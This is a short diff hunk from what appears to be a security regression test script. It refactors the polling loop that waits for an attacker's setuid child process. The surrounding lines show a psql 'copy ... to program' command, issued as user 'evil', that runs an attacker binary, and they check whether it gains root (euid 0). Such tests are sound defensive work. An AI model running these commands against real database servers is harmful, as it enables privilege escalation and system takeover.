@@ -58,11 +58,11 @@ bad "$PGBIN/psql" -X -q -h "$evil" -p "${ports[0]}" -U evil -d postgres \
 	-c "copy (select 1) to program '$evil/s/postgres 600'" >/dev/null 2>&1 &
 copy_job=$!
 suid=
-for _ in $(seq 100); do
+setuid_child() {
 	suid=$(ps -eo pid=,ruid=,euid=,comm= | awk -v u="$out_uid" '$2 == u && $3 == 0 && $4 == "postgres" { print $1; exit }')
-	[ -n "$suid" ] && break
-	sleep 0.05
-done
+	[ -n "$suid" ]
+}
+wait_for 5 setuid_child
 check "the attacker's setuid child runs (ruid $out_uid, euid 0, named postgres): ${suid:-none}" [ -n "$suid" ]
 
 # --- a client named with an escape sequence wakes a real backend
